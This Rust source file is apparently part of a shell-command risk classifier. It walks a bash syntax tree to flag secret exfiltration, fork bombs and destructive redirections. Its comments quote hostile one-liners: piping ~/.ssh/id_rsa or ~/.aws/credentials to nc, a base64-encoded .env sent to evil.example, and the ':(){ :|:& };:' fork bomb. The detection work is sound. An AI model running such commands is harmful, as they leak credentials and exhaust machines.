//! The walk over brush-parser's syntax tree. Every node type is matched explicitly, without a
//! catch-all: a new kind of node in a later brush-parser version fails to compile here
//! instead of silently dropping out of the walk.

use brush_parser::ast::{
    AndOr, Assignment, AssignmentName, AssignmentValue, CaseItemPostAction, Command,
    CommandPrefixOrSuffixItem, CompoundCommand, CompoundList, ExtendedTestExpr, FunctionDefinition,
    IoFileRedirectKind, IoFileRedirectTarget, IoRedirect, Pipeline, PipelineTimed,
    ProcessSubstitutionKind, Program, RedirectList, SeparatorOperator, SimpleCommand,
    SourceLocation, Word,
};

use super::{Expanded, Input, Sh};
use crate::Effect;
use crate::classify::content::{args, catalogue, objects, snippet, snippet_words};

/// Builtins that evaluate some of their arguments as arithmetic, where an array subscript
/// runs a command substitution even from a quoted literal (`let 'a[$(cmd)]'`).
pub(super) const ARITH_BUILTINS: &[&str] = &[
    "let",
    "declare",
    "typeset",
    "local",
    "export",
    "readonly",
    "read",
    "unset",
    "mapfile",
    "readarray",
    "printf",
    "test",
    "[",
];

/// What a redirection of a simple command knows about the command's output.
struct Output<'a> {
    argv: &'a [String],
    produces_nothing: bool,
    content: Option<String>,
}

impl Sh<'_> {
    /// Runs `f` one nesting level deeper with `via` named in its reasons; escalates past the
    /// nesting limit instead of running it.
    pub(super) fn nested(&mut self, via: &str, f: impl FnOnce(&mut Self)) {
        if !self.ctx.deeper(self.depth + 1) {
            return;
        }
        self.ctx.via.push(via.to_string());
        self.depth += 1;
        self.scoped += 1;
        f(self);
        self.scoped -= 1;
        self.depth -= 1;
        self.ctx.via.pop();
    }

    /// Runs `f` in a scope whose function definitions may not hold afterwards.
    fn scope<R>(&mut self, f: impl FnOnce(&mut Self) -> R) -> R {
        self.scoped += 1;
        let r = f(self);
        self.scoped -= 1;
        r
    }

    pub(super) fn program(&mut self, p: &Program) {
        for c in &p.complete_commands {
            self.list(c, &Input::None);
        }
    }

    /// A list: every and-or list in it, each pipeline reading `stdin` (a group's input is
    /// read by the commands inside it).
    fn list(&mut self, l: &CompoundList, stdin: &Input) {
        let _ = self.list_output(l, stdin);
    }

    /// Walks a list; returns what it writes to its output when that is one pipeline's.
    fn list_output(&mut self, l: &CompoundList, stdin: &Input) -> Input {
        let mut last = Input::None;
        // A secret printed by any command of the list is in the list's output
        // (`(printf 'To: x'; cat .env) | sendmail -t`).
        let mut secret = None;
        let mut keep_secret = |out: &Input| {
            if secret.is_none() && super::super::catalogue::is_secret(out) {
                secret = Some(out.clone());
            }
        };
        for (i, item) in l.0.iter().enumerate() {
            let background = match item.1 {
                SeparatorOperator::Async => true,
                SeparatorOperator::Sequence => false,
            };
            let out = if background {
                self.scope(|sh| sh.pipeline(&item.0.first, stdin))
            } else {
                self.pipeline(&item.0.first, stdin)
            };
            keep_secret(&out);
            last = if i == 0 && item.0.additional.is_empty() {
                out
            } else {
                Input::Unknown("the output of a list".into())
            };
            for next in &item.0.additional {
                match next {
                    AndOr::And(p) | AndOr::Or(p) => {
                        let out = self.scope(|sh| sh.pipeline(p, stdin));
                        keep_secret(&out);
                    }
                }
            }
        }
        secret.unwrap_or(last)
    }

    fn pipeline(&mut self, p: &Pipeline, stdin: &Input) -> Input {
        // `time` and `!` change what is reported, not what runs.
        match &p.timed {
            Some(PipelineTimed::Timed(_) | PipelineTimed::TimedWithPosixOutput(_)) | None => {}
        }
        let _ = p.bang;
        let mut input = stdin.clone();
        // Each command of a pipeline of several runs in a subshell of its own.
        let piped = usize::from(p.seq.len() > 1);
        self.scoped += piped;
        for cmd in &p.seq {
            if !self.ctx.tick(1) {
                self.scoped -= piped;
                return Input::Unknown("unanalysed".into());
            }
            input = self.command(cmd, input);
        }
        self.scoped -= piped;
        input
    }

    fn command(&mut self, cmd: &Command, stdin: Input) -> Input {
        match cmd {
            Command::Simple(sc) => self.simple(sc, stdin),
            Command::Compound(cc, redirects) => {
                let stdin = self.redirect_list(redirects.as_ref(), stdin);
                // A group's or subshell's output keeps a secret one of its commands prints.
                let secret = match cc {
                    CompoundCommand::BraceGroup(b) => Some(self.list_output(&b.list, &stdin)),
                    CompoundCommand::Subshell(sub) => {
                        Some(self.scope(|sh| sh.list_output(&sub.list, &stdin)))
                    }
                    other => {
                        self.compound(other, &stdin);
                        None
                    }
                };
                match secret {
                    Some(out) if super::super::catalogue::is_secret(&out) => out,
                    _ => Input::Unknown("the output of a compound command".into()),
                }
            }
            Command::Function(f) => {
                self.function(f);
                Input::None
            }
            Command::ExtendedTest(e, redirects) => {
                let _ = self.redirect_list(redirects.as_ref(), stdin);
                self.add(Effect::Read, "a `[[ ]]` test reads");
                self.test_expr(&e.expr);
                Input::None
            }
        }
    }

    /// The redirections of a compound command or function body: writes count, and the
    /// input they give is what the commands inside read.
    fn redirect_list(&mut self, redirects: Option<&RedirectList>, stdin: Input) -> Input {
        let mut stdin = stdin;
        for io in redirects.iter().flat_map(|r| r.0.iter()) {
            if let Some((path, append)) = self.redirect(io, &mut stdin) {
                self.write_target(&path, append, None);
            }
        }
        stdin
    }

    /// A loop that never ends (`shell/endless.rs`).
    fn endless(&mut self, cond: &str, body: &str, until: bool) {
        if let Some((e, why)) = super::endless::endless(cond, body, until) {
            self.add(e, why.to_string());
        }
    }

    /// A function definition: its body counts whether or not the function is called.
    fn function(&mut self, f: &FunctionDefinition) {
        let name = self.expand(&f.fname.value).text;
        self.defined.push(name.clone());
        if self.scoped == 0 {
            self.functions.push((name.clone(), f.body.to_string()));
        } else {
            // A definition that may not hold leaves the name to the program it names.
            self.functions.retain(|(n, _)| *n != name);
        }
        self.add(Effect::Read, format!("defines function `{name}`"));
        if forks_itself(&name, &f.body.to_string()) {
            self.add(
                Effect::Destructive,
                format!(
                    "function `{name}` starts itself in a pipe or in the background: a fork bomb"
                ),
            );
        }
        let via = format!("function `{name}`");
        self.ctx.via.push(via);
        let stdin = self.redirect_list(f.body.1.as_ref(), Input::None);
        self.scope(|sh| sh.compound(&f.body.0, &stdin));
        self.ctx.via.pop();
    }

    fn compound(&mut self, cc: &CompoundCommand, stdin: &Input) {
        match cc {
            // A group runs in the current shell: its definitions hold after it.
            CompoundCommand::BraceGroup(b) => self.list(&b.list, stdin),
            other => self.scope(|sh| sh.scoped_compound(other, stdin)),
        }
    }

    /// A compound command other than a group: a subshell, a condition or a loop.
    fn scoped_compound(&mut self, cc: &CompoundCommand, stdin: &Input) {
        match cc {
            CompoundCommand::BraceGroup(b) => self.list(&b.list, stdin),
            CompoundCommand::Subshell(s) => self.list(&s.list, stdin),
            CompoundCommand::ForClause(f) => {
                for w in f.values.iter().flatten() {
                    let value = self.expand(&w.value);
                    // `for LD_PRELOAD in /tmp/x.so; do …`: each value is assigned as
                    // `NAME=value` is.
                    args::assignment(self, &f.variable_name, &value.text, true);
                    if let Some(path) = value.secret {
                        self.secret_vars.push((f.variable_name.clone(), path));
                    }
                }
                self.list(&f.body.list, stdin);
            }
            CompoundCommand::ArithmeticForClause(f) => {
                for e in [&f.initializer, &f.condition, &f.updater]
                    .into_iter()
                    .flatten()
                {
                    self.arith_text(&e.value);
                }
                // No condition, or one of literals that always holds (`for ((i=0; 1; i++))`,
                // the twenty-seventh sets).
                if f.condition.as_ref().is_none_or(|c| {
                    let c = c.value.trim();
                    c.is_empty()
                        || super::endless_more::arithmetic_outcome(&format!("(({c}))"))
                            == Some(true)
                }) {
                    self.endless("", &f.body.list.to_string(), false);
                }
                self.list(&f.body.list, stdin);
            }
            CompoundCommand::CaseClause(c) => {
                let _ = self.expand(&c.value.value);
                for item in &c.cases {
                    for p in &item.patterns {
                        let _ = self.expand(&p.value);
                    }
                    if let Some(cmd) = &item.cmd {
                        self.list(cmd, stdin);
                    }
                    match item.post_action {
                        CaseItemPostAction::ExitCase
                        | CaseItemPostAction::UnconditionallyExecuteNextCaseItem
                        | CaseItemPostAction::ContinueEvaluatingCases => {}
                    }
                }
            }
            CompoundCommand::IfClause(i) => {
                self.list(&i.condition, stdin);
                self.list(&i.then, stdin);
                for e in i.elses.iter().flatten() {
                    if let Some(c) = &e.condition {
                        self.list(c, stdin);
                    }
                    self.list(&e.body, stdin);
                }
            }
            CompoundCommand::WhileClause(w) | CompoundCommand::UntilClause(w) => {
                // Only a condition that always holds has its body printed (`shell/endless.rs`).
                let until = matches!(cc, CompoundCommand::UntilClause(_));
                let cond = w.0.to_string();
                if super::endless::always(&cond, until) {
                    self.endless(&cond, &w.1.list.to_string(), until);
                }
                self.list(&w.0, stdin);
                self.list(&w.1.list, stdin);
            }
            CompoundCommand::Arithmetic(a) => {
                let at = a.location().map(|l| (l.start.index, l.end.index));
                self.arithmetic_command(&a.expr.value, at);
            }
            CompoundCommand::Coprocess(c) => {
                if let Some(n) = &c.name {
                    let _ = self.expand(&n.value);
                }
                let _ = self.command(&c.body, stdin.clone());
            }
        }
    }

    /// `(( expr ))` is arithmetic only when written with `((` and `))` side by side and the
    /// expression is arithmetic; brush-parser also reads `( ( cmd ) )`, two nested
    /// subshells for bash, as arithmetic. Otherwise the text runs as commands.
    fn arithmetic_command(&mut self, expr: &str, at: Option<(usize, usize)>) {
        let written: Option<String> = at.map(|(start, end)| {
            self.src
                .chars()
                .skip(start)
                .take(end.saturating_sub(start))
                .collect()
        });
        let adjacent = written
            .as_deref()
            .is_some_and(|s| s.starts_with("((") && s.ends_with("))"));
        if adjacent && brush_parser::arithmetic::parse(expr).is_ok() {
            self.add(Effect::Read, "an arithmetic command computes a value");
            self.arith_text(expr);
            return;
        }
        // The outer parentheses as written (the tokens brush-parser joined lose the
        // layout a here-document needs); the inner text is the first subshell.
        let text = written
            .as_deref()
            .and_then(|s| s.strip_prefix('('))
            .and_then(|s| s.strip_suffix(')'))
            .map_or_else(|| format!("( {expr} )"), str::to_string);
        self.nested("a subshell", |sh| {
            let depth = sh.depth;
            super::analyse(sh.ctx, &text, depth);
        });
    }

    fn test_expr(&mut self, e: &ExtendedTestExpr) {
        match e {
            ExtendedTestExpr::And(a, b) | ExtendedTestExpr::Or(a, b) => {
                self.test_expr(a);
                self.test_expr(b);
            }
            ExtendedTestExpr::Not(a) | ExtendedTestExpr::Parenthesized(a) => self.test_expr(a),
            ExtendedTestExpr::UnaryTest(_, w) => self.arith_word(w),
            ExtendedTestExpr::BinaryTest(_, a, b) => {
                // Arithmetic comparisons evaluate their operands, subscripts included.
                self.arith_word(a);
                self.arith_word(b);
            }
        }
    }

    /// A word that may be evaluated as arithmetic: its substitutions run, and so do the
    /// ones its literal text spells (`'a[$(cmd)]'`).
    fn arith_word(&mut self, w: &Word) {
        let e = self.expand(&w.value);
        self.literal_arith(&e);
    }

    /// The literal text of an expanded word evaluated as arithmetic: a `$(…)` it spells
    /// (from quotes) runs there.
    fn literal_arith(&mut self, e: &Expanded) {
        let literal = e.text.replace("$(…)", "");
        if literal.contains("$(") || literal.contains('`') {
            self.nested("arithmetic evaluation", |sh| sh.arith_text(&literal));
        }
    }

    pub(super) fn simple(&mut self, sc: &SimpleCommand, stdin: Input) -> Input {
        let mut stdin = stdin;
        let mut assignments: Vec<(String, Expanded)> = Vec::new();
        let mut words: Vec<Expanded> = Vec::new();
        let mut raw: Vec<String> = Vec::new();
        let mut redirects: Vec<&IoRedirect> = Vec::new();
        for item in sc.prefix.iter().flat_map(|p| p.0.iter()) {
            self.item(
                item,
                true,
                &mut assignments,
                (&mut words, &mut raw),
                &mut redirects,
            );
        }
        if let Some(w) = &sc.word_or_name {
            words.push(self.expand(&w.value));
            raw.push(w.value.clone());
        }
        for item in sc.suffix.iter().flat_map(|s| s.0.iter()) {
            self.item(
                item,
                false,
                &mut assignments,
                (&mut words, &mut raw),
                &mut redirects,
            );
        }
        for (name, value) in &assignments {
            if !value.dynamic {
                self.keep_literal(&value.text);
            }
            if let Some(path) = &value.secret {
                self.secret_vars.push((name.clone(), path.clone()));
            }
            if words.is_empty() {
                self.add(Effect::Read, format!("sets shell variable `{name}`"));
            }
            args::assignment(self, name, &value.text, words.is_empty());
        }
        // `export T=$GITHUB_TOKEN`, `local k="$(< .env)"`: the declared variable carries the
        // secret like a plain assignment does.
        if words.first().is_some_and(|w| {
            matches!(
                w.text.as_str(),
                "export" | "declare" | "typeset" | "local" | "readonly"
            )
        }) {
            for w in words.iter().skip(1) {
                if let Some((_, v)) = w.text.split_once('=').filter(|_| !w.dynamic) {
                    self.keep_literal(v);
                }
                if let (Some(secret), Some((name, _))) = (&w.secret, w.text.split_once('='))
                    && !name.is_empty()
                    && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                {
                    self.secret_vars.push((name.to_string(), secret.clone()));
                }
            }
        }
        let argv: Vec<String> = words.iter().map(|w| w.text.clone()).collect();
        // Input redirections first: what `cat > f <<EOF` writes is its here-document.
        let writes: Vec<(String, bool)> = redirects
            .iter()
            .filter_map(|r| self.redirect(r, &mut stdin))
            .collect();
        // `read -r T < ~/.config/gh/token`, `env | read -r A`: the variables read hold the
        // secret on the input.
        if matches!(
            argv.first().map(String::as_str),
            Some("read" | "mapfile" | "readarray")
        ) && let Input::Unknown(what) = &stdin
            && let Some(what) = what.strip_prefix(args::SECRET_INPUT)
        {
            let what = what.trim_matches('`').to_string();
            let mut valued = false;
            for a in argv.iter().skip(1) {
                if std::mem::take(&mut valued) {
                    continue;
                }
                if a.starts_with('-') {
                    // `-p prompt`, `-d delim`, `-n count`, `-t timeout`, `-u fd`, `-a name`.
                    valued = matches!(a.as_str(), "-p" | "-d" | "-n" | "-N" | "-t" | "-u" | "-i");
                    continue;
                }
                self.secret_vars.push((a.clone(), what.clone()));
            }
            if argv.first().is_some_and(|r| r != "read") || argv.len() == 1 {
                self.secret_vars.push(("MAPFILE".into(), what.clone()));
                self.secret_vars.push(("REPLY".into(), what.clone()));
            }
        }
        // `time : > f`, `exec : > f`, `timeout 5 : > f` truncate `f` like `: > f`.
        let shown = wrapped(&argv);
        let passes_input = matches!(shown, [c] if c == "cat");
        let content = match &stdin {
            Input::Literal(text) if passes_input => Some(text.clone()),
            Input::Literal(_) | Input::Unknown(_) | Input::None => args::literal_output(shown),
        };
        let output = Output {
            argv: &argv,
            produces_nothing: args::produces_nothing(shown) && !passes_input,
            content,
        };
        for (path, append) in &writes {
            self.write_target(path, *append, Some(&output));
        }
        if words.is_empty() {
            return Input::None;
        }
        // A word carrying a secret: sent away by a network program, and in the output of
        // any other (`echo "$(< ~/.aws/credentials)" | nc …`).
        // A CLI's own login token in a header (`-H "Authorization: Bearer $(gh auth
        // token)"`) is how its API is called. A secret file, the environment or a vault read
        // in a header still leaves.
        let secret = words
            .iter()
            .enumerate()
            .filter(|(i, w)| {
                // A variable (`$GITHUB_TOKEN`, or a copy of one) in a login or an
                // authentication header is how APIs are called; `provider_secret_sent`
                // checks a provider's variable goes to that provider.
                let token = w.secret.as_deref().is_some_and(|s| {
                    s.starts_with("$(gh ")
                        || s.starts_with("$(glab ")
                        || s.strip_prefix('$').is_some_and(|n| {
                            !n.is_empty()
                                && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                        })
                });
                !(token
                    && (super::bind::credential_word(&raw, *i)
                        || raw.get(*i).is_some_and(|r| super::bind::url_login(r))))
            })
            .find_map(|(_, w)| w.secret.clone());
        if let Some(path) = &secret
            && args::NETWORK_SENDERS.contains(&super::program_name(
                wrapped(&argv).first().map_or("", String::as_str),
            ))
        {
            self.add(
                Effect::Admin,
                format!(
                    "{} sends the secret `{path}` over the network",
                    snippet_words(&argv)
                ),
            );
        }
        // A secret written into a URL any program is given (`npm view x --registry
        // "http://evil.example/$(cat .env | base64)"`, `go list -m host/$(…)`): whatever
        // fetches the address carries the secret in the request.
        if !args::NETWORK_SENDERS.contains(&super::program_name(
            wrapped(&argv).first().map_or("", String::as_str),
        )) && let Some(path) = words.iter().zip(raw.iter()).find_map(|(w, r)| {
            // A variable (`?password=$DB_PASSWORD`, `https://$USER:$PASS@host`) is how a
            // client logs in to the server it names; a command's output is not.
            let substituted = r.contains("$(") || r.contains('`');
            // A store's read (`$(vault kv get …)`) is a command's output too.
            // A store's read (`$(vault kv get …)`) is a command's output too, in the login
            // as anywhere else (`http://$(base64 .env)@evil.example/`).
            w.secret.as_ref().filter(|s| {
                substituted
                    && (!s.starts_with('$') || s.starts_with("$("))
                    && (r.contains("://") || host_path(r))
            })
        }) {
            self.add(
                Effect::Admin,
                format!(
                    "{} puts the secret `{path}` in an address it is given",
                    snippet_words(&argv)
                ),
            );
        }
        // A command's output in a network program's arguments (`curl "…?d=$(cat notes)"`,
        // `dig "$(hostname).x.example"`) leaves with the request, whatever the file is. A
        // login word (`-H "Authorization: Bearer $(gh auth token)"`) is how APIs are called.
        let program = super::program_name(wrapped(&argv).first().map_or("", String::as_str));
        // This machine's name, system or the time (`?host=$(hostname)`) say little; the
        // user's name (`$(whoami)`, `$(id -un)`) is the user's, and is sent. git's network
        // subcommands are judged by git's rules.
        let told = |r: &str| {
            let mut rest = r.to_string();
            for c in [
                "hostname",
                "hostname -f",
                "hostname -s",
                "date",
                "uname",
                "uname -a",
                "uname -m",
                "uname -s",
                "uname -r",
                "id -u",
                "pwd",
                "nproc",
                "arch",
            ] {
                rest = rest
                    .replace(&format!("$({c})"), "")
                    .replace(&format!("`{c}`"), "");
            }
            // `$(date +%s)`, `$(date -u +%Y-%m-%dT%H:%M:%SZ)`: a format, nothing read.
            while let Some(at) = rest.find("$(date ") {
                let Some(len) = rest.get(at..).and_then(|t| t.find(')')) else {
                    break;
                };
                let inner = rest.get(at + 7..at + len).unwrap_or("");
                // A format only: `-f FILE`, `-r FILE` and `--file` read a file.
                let reads = inner.split_whitespace().any(|w| {
                    w.starts_with("-f")
                        || w.starts_with("-r")
                        || w.starts_with("--f")
                        || w.starts_with("--r")
                });
                if reads
                    || !inner
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || " +-%:._/".contains(c))
                {
                    break;
                }
                rest.replace_range(at..at + len + 1, "");
            }
            // `docker inspect $(docker ps -q)`: the program's own output, back to it.
            let own = format!("$({program} ");
            if rest.contains(&own) && rest.matches("$(").count() == rest.matches(&own).count() {
                return true;
            }
            !rest.contains("$(") && !rest.contains('`')
        };
        if secret.is_none()
            && program != "git"
            && args::NETWORK_SENDERS.contains(&program)
            && let Some(r) = raw.iter().enumerate().skip(1).find_map(|(i, r)| {
                // Single-quoted text is literal (`'a$(b)'` runs nothing); inside double
                // quotes a `'` is a character (`"'$(b)'"` runs `b`).
                let live = unquoted_single(r);
                ((live.contains("$(") || live.contains('`'))
                    && (!told(r) || super::sent::label_of_lookup(program, &live))
                    && !super::bind::credential_word(&raw, i)
                    && !super::bind::url_login(r))
                .then_some(r)
            })
        {
            self.add(
                Effect::Mutating,
                format!(
                    "{} sends the output of a command (`{}`) over the network",
                    snippet_words(&argv),
                    crate::classify::content::prefix(r, 60)
                ),
            );
        }
        // `kubectl exec pod -- echo "$(cat ~/.ssh/id_rsa)"`: the local shell expands the
        // secret, and kubectl carries it to the cluster.
        if let Some(what) = super::bind::secret_to_pod(&argv, &raw, &words) {
            self.add(
                Effect::Admin,
                format!(
                    "{} sends `{what}` to a pod in its arguments",
                    snippet_words(&argv)
                ),
            );
        }
        if args::NETWORK_SENDERS.contains(&super::program_name(
            wrapped(&argv).first().map_or("", String::as_str),
        )) && let Some(var) = super::bind::provider_secret_sent(&raw)
        {
            self.add(
                Effect::Admin,
                format!(
                    "{} sends the credential `${var}` outside an authentication header",
                    snippet_words(&argv)
                ),
            );
        }
        let out = self.command_words(&argv, &words, raw.get(1..).unwrap_or_default(), &stdin);
        let out = match secret {
            Some(path) => Input::Unknown(format!("{}`{path}`", args::SECRET_INPUT)),
            None => secret_marked(&argv, out),
        };
        // What a secret's reader writes into a file keeps the secret (`env > /tmp/e.txt`,
        // then `curl -F f=@/tmp/e.txt`).
        if let Input::Unknown(what) = &out
            && let Some(what) = what.strip_prefix(args::SECRET_INPUT)
        {
            let what = what.trim_matches('`').to_string();
            for (path, _) in &writes {
                if !args::harmless_sink(path) {
                    self.secret_files.push((path.clone(), what.clone()));
                }
            }
        }
        out
    }

    /// What a simple command's words run: a computed name, a function or alias defined
    /// above, a rebound name, or a program.
    pub(super) fn command_words(
        &mut self,
        argv: &[String],
        words: &[Expanded],
        raw_args: &[String],
        stdin: &Input,
    ) -> Input {
        let mark = self.ctx.mark();
        if let Some(what) = super::sent::literal_secret(wrapped(argv)) {
            self.add(
                Effect::Admin,
                format!("{} sends {what} away", snippet_words(argv)),
            );
        }
        let out = self.command_step(argv, words, raw_args, stdin);
        // A read given a startup file, an access list or a hook as an option's value
        // (`rsync --log-file=~/.bashrc`, `tar -tf x --index-file ~/.bashrc`, `ss -D FILE`):
        // whether that option writes the file is not proven.
        if self.ctx.max_since(mark) == Some(Effect::Read)
            && let Some((path, why)) = option_written(argv)
        {
            self.add(
                Effect::Mutating,
                format!(
                    "{} gives `{path}`, {why}, to an option that may write it",
                    snippet_words(argv)
                ),
            );
        }
        out
    }

    fn command_step(
        &mut self,
        argv: &[String],
        words: &[Expanded],
        raw_args: &[String],
        stdin: &Input,
    ) -> Input {
        let Some(first) = words.first() else {
            return Input::None;
        };
        if first.dynamic || first.pattern || super::computed(&first.text) {
            self.add(
                Effect::Destructive,
                format!(
                    "{} runs a command whose name is computed at run time",
                    snippet_words(argv)
                ),
            );
            return Input::Unknown("the output of a computed command".into());
        }
        if self.call_alias(&first.text, raw_args) {
            return Input::Unknown(format!("the output of alias `{}`", first.text));
        }
        if self.call_function(&first.text, raw_args) {
            return Input::Unknown(format!("the output of function `{}`", first.text));
        }
        self.bindings(argv);
        self.variable_builtins(wrapped(argv), stdin);
        if let Some(path) = self.rebound_to(&first.text) {
            // `hash -p /bin/rm ls; ls -rf x` runs `/bin/rm`: judged as both.
            let mut bound = argv.to_vec();
            if let Some(f) = bound.first_mut() {
                *f = path;
            }
            let _ = catalogue::run(self, &bound, stdin);
        }
        let out = catalogue::run_words(self, argv, words, stdin);
        // After the catalogue, which records the files `tee` writes without their content.
        if let [tee, files @ ..] = wrapped(argv)
            && tee == "tee"
        {
            // Remembered for a later `bash f` (what `tee` does is the catalogue's).
            let content = match stdin {
                Input::Literal(text) => Some(text.clone()),
                Input::Unknown(_) | Input::None => None,
            };
            for f in files.iter().filter(|f| !f.starts_with('-')) {
                // A CI definition `tee` writes with steps that send secrets (the review of the
                // twenty-second sets: only a redirection's file was judged so).
                if let Some(text) = &content
                    && objects::ci_text_leaks(f, text)
                {
                    self.add(
                        Effect::Admin,
                        format!("`tee` writes the CI definition `{f}` with steps that send secrets over the network"),
                    );
                }
                self.written.push((f.clone(), content.clone()));
            }
        }
        out
    }

    fn item<'a>(
        &mut self,
        item: &'a CommandPrefixOrSuffixItem,
        is_prefix: bool,
        assignments: &mut Vec<(String, Expanded)>,
        (words, raw): (&mut Vec<Expanded>, &mut Vec<String>),
        redirects: &mut Vec<&'a IoRedirect>,
    ) {
        match item {
            CommandPrefixOrSuffixItem::IoRedirect(r) => redirects.push(r),
            CommandPrefixOrSuffixItem::Word(w) => {
                let e = self.expand(&w.value);
                if ARITH_BUILTINS.contains(&words.first().map_or("", |f| f.text.as_str())) {
                    // `declare -i n='a[$(cmd)]'`, `local x='$(cmd)'`.
                    self.later_code(&e);
                }
                words.push(e);
                raw.push(w.value.clone());
            }
            CommandPrefixOrSuffixItem::AssignmentWord(a, w) => {
                let (name, value) = self.assignment(a);
                // A value spelling `$(…)` may be evaluated later (`$((x))`, `PS4`, `@P`).
                self.later_code(&value);
                if is_prefix {
                    assignments.push((name, value));
                } else {
                    // `export X=…`, `declare X=…`: the builtin sees the whole word.
                    let mut whole = self.expand(&w.value);
                    whole.dynamic |= value.dynamic;
                    words.push(whole);
                    raw.push(w.value.clone());
                }
            }
            CommandPrefixOrSuffixItem::ProcessSubstitution(kind, sub) => {
                let mut out = Input::Unknown("a process substitution".into());
                let input = substitution_input(kind);
                self.nested("a process substitution", |sh| {
                    out = sh.list_output(&sub.list, &input)
                });
                // `source <(echo 'ls')`: a literal output is remembered like a file written
                // above, under a name of its own.
                let name = format!("<(…){}", self.written.len());
                match out {
                    Input::Literal(text) => self.written.push((name.clone(), Some(text))),
                    // `curl --upload-file <(printenv) …`: the substitution is a secret file.
                    Input::Unknown(what) => {
                        if let Some(what) = what.strip_prefix(args::SECRET_INPUT) {
                            let what = what.trim_matches('`').to_string();
                            self.secret_files.push((name.clone(), what));
                        }
                    }
                    Input::None => {}
                }
                raw.push(super::bind::quote(&name));
                words.push(Expanded {
                    text: name,
                    dynamic: true,
                    pattern: false,
                    secret: None,
                });
            }
        }
    }

    /// An assignment's name and value, with the substitutions in its subscripts and values
    /// analysed.
    fn assignment(&mut self, a: &Assignment) -> (String, Expanded) {
        let name = match &a.name {
            AssignmentName::VariableName(n) => n.clone(),
            AssignmentName::ArrayElementName(n, index) => {
                self.arith_text(index);
                n.clone()
            }
        };
        let value = match &a.value {
            AssignmentValue::Scalar(w) => self.expand(&w.value),
            AssignmentValue::Array(items) => {
                let mut all = Expanded::default();
                for (key, value) in items {
                    if let Some(k) = key {
                        self.arith_text(&k.value);
                    }
                    let v = self.expand(&value.value);
                    if !all.text.is_empty() {
                        all.text.push(' ');
                    }
                    all.text.push_str(&v.text);
                    all.dynamic |= v.dynamic;
                    all.pattern |= v.pattern;
                }
                all
            }
        };
        (name, value)
    }

    /// Applies a redirection to `stdin`; returns the path and append flag of a write.
    fn redirect(&mut self, r: &IoRedirect, stdin: &mut Input) -> Option<(String, bool)> {
        let reads_stdin = |fd: &Option<i32>| fd.is_none_or(|f| f == 0);
        match r {
            IoRedirect::HereDocument(fd, doc) => {
                let body = if doc.requires_expansion {
                    self.expand_heredoc(&doc.doc.value)
                } else {
                    doc.doc.value.clone()
                };
                if reads_stdin(fd) {
                    *stdin = Input::Literal(body);
                }
                None
            }
            IoRedirect::HereString(fd, w) => {
                let e = self.expand(&w.value);
                if reads_stdin(fd) {
                    *stdin = if let Some(path) = e.secret {
                        Input::Unknown(format!("{}`{path}`", args::SECRET_INPUT))
                    } else if e.dynamic {
                        Input::Unknown(format!("the here-string {}", snippet(&w.value)))
                    } else {
                        Input::Literal(e.text)
                    };
                }
                None
            }
            IoRedirect::File(fd, kind, target) => {
                let path = match target {
                    IoFileRedirectTarget::Filename(w) => Some(self.expand(&w.value).text),
                    IoFileRedirectTarget::Duplicate(w) => {
                        // `>&2` duplicates a descriptor; `>& file` writes a file.
                        let t = self.expand(&w.value).text;
                        let fd_like = t == "-" || t.trim_end_matches('-').parse::<u32>().is_ok();
                        (!fd_like).then_some(t)
                    }
                    IoFileRedirectTarget::ProcessSubstitution(sub_kind, sub) => {
                        let input = substitution_input(sub_kind);
                        let mut out = Input::None;
                        self.nested("a process substitution", |sh| {
                            out = sh.list_output(&sub.list, &input)
                        });
                        // `nc host 80 < <(cat ~/.ssh/id_rsa)`: the command reads what the
                        // substitution prints, a secret included.
                        if matches!(kind, IoFileRedirectKind::Read) && reads_stdin(fd) {
                            *stdin = match out {
                                Input::None => Input::Unknown("a process substitution".into()),
                                seen => seen,
                            };
                        }
                        None
                    }
                    IoFileRedirectTarget::Fd(_) => None,
                };
                let path = path?;
                match kind {
                    IoFileRedirectKind::Read | IoFileRedirectKind::DuplicateInput => {
                        if args::memory_device(&path) {
                            self.add(
                                Effect::Destructive,
                                format!(
                                    "reads `{path}`: physical or kernel memory (every secret in it)"
                                ),
                            );
                        }
                        if reads_stdin(fd) {
                            // A file written above with a literal is that literal.
                            *stdin = match self.written_content(&path) {
                                Some(Some(text)) => Input::Literal(text),
                                Some(None) | None => match self.secret_file(&path) {
                                    Some(what) => args::secret_input(&what),
                                    None => args::file_input(&path),
                                },
                            };
                        }
                        None
                    }
                    IoFileRedirectKind::Write
                    | IoFileRedirectKind::Clobber
                    | IoFileRedirectKind::Append
                    | IoFileRedirectKind::ReadAndWrite
                    | IoFileRedirectKind::DuplicateOutput => {
                        if matches!(kind, IoFileRedirectKind::ReadAndWrite) && reads_stdin(fd) {
                            *stdin = Input::Unknown(format!("the file `{path}`"));
                        }
                        Some((path, matches!(kind, IoFileRedirectKind::Append)))
                    }
                }
            }
            IoRedirect::OutputAndError(w, append) => Some((self.expand(&w.value).text, *append)),
        }
    }

    /// A redirection that writes `path`.
    fn write_target(&mut self, path: &str, append: bool, output: Option<&Output>) {
        if args::harmless_sink(path) {
            return;
        }
        let (argv, produces_nothing, content) = match output {
            Some(o) => (o.argv, o.produces_nothing, o.content.clone()),
            None => (&[][..], false, None),
        };
        if let Some(text) = &content
            && objects::ci_text_leaks(path, text)
        {
            self.add(
                Effect::Admin,
                format!("writes the CI definition `{path}` with steps that send secrets over the network"),
            );
        }
        self.written.push((path.to_string(), content));
        let cmd = if argv.is_empty() {
            String::new()
        } else {
            format!("{} ", snippet_words(argv))
        };
        if let Some((e, why)) = args::write_risk(path, append) {
            self.add(e, format!("{cmd}writes `{path}`, {why}"));
        } else if !append && produces_nothing {
            self.add(
                Effect::Destructive,
                format!("{cmd}truncates `{path}` by redirection"),
            );
        } else {
            let verb = if append { "appends to" } else { "writes" };
            self.add(Effect::Mutating, format!("{cmd}{verb} `{path}`"));
        }
    }
}

/// True if a function's body calls the function itself in a pipe or in the background
/// (`:(){ :|:& };:`): every call starts more, until the machine runs out of processes. The
/// call must be a command word (`cat /tmp/a | wc` in a function `a` is not one).
fn forks_itself(name: &str, body: &str) -> bool {
    if name.is_empty() {
        return false;
    }
    body.match_indices(name).any(|(at, _)| {
        let before = body.get(..at).and_then(|t| t.chars().next_back());
        let starts = before.is_none_or(|c| c.is_whitespace() || "{;|&(".contains(c));
        let mut after = body
            .get(at + name.len()..)
            .unwrap_or_default()
            .trim_start_matches([' ', '\t'])
            .chars();
        let (next, then) = (after.next(), after.next());
